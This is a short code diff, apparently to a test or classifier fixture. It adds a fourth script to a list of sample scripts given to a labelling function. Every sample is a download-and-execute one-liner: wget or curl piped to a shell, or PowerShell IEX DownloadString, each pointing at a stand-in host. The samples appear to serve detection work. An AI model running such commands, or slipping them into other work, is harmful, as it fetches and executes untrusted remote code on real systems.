@@ -12,6 +12,7 @@ const labelOf = async (name: string, text: string): Promise<string> =>
 const SAMPLES: readonly (readonly [comment: string, name: string, text: string])[] = [
   ['# ', 'a.sh', '#!/bin/sh\nwget -q -O /tmp/.x http://203.0.113.9/x; chmod +x /tmp/.x; /tmp/.x\n'],
   ['# ', 'b.sh', '#!/bin/sh\ncurl -s http://203.0.113.9/x | bash\n'],
+  ['# ', 'i.sh', '#!/bin/sh\ncurl -s http://update.example.org/x | sh\n'],
   ['# ', 'c.ps1', "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')\n"],
   [
     'REM ',
